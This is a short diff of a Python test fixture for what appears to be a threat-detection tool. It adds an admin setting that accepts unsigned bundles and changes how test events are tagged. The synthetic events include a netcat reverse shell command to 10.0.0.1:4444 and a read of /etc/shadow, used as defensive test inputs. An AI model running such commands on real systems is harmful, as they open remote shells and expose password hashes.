@@ -37,6 +37,7 @@ def process_config(tmp_path: Path, **extra: Any) -> tuple[Path, dict[str, Any]]:
         "metrics": {"listen": f"127.0.0.1:{free_port()}"},
         "actions": {"toss_below": -1000, "alert_at": 100},
         "bundle": str(DEFAULT_BUNDLE),
+        "admin": {"allow_unsigned": True},
         "state_dir": str(tmp_path / "state"),
         "plaintext": True,
         **extra,
@@ -50,8 +51,8 @@ def mixed_round(marker: str) -> list[dict[str, Any]]:
     return [
         exec_event("/usr/bin/ls", ["ls", marker]),
         exec_event("/usr/bin/nc", ["nc", "10.0.0.1", "4444", "-e", "/bin/sh", marker]),
-        connect_event("10.9.9.9", 8080, **{"threatseer.marker": marker}),
-        open_event("/etc/shadow", ["read"], **{"threatseer.marker": marker}),
+        connect_event("10.9.9.9", 8080, **{"process.working_directory": f"/{marker}"}),
+        open_event("/etc/shadow", ["read"], **{"process.working_directory": f"/{marker}"}),
     ]
 
 
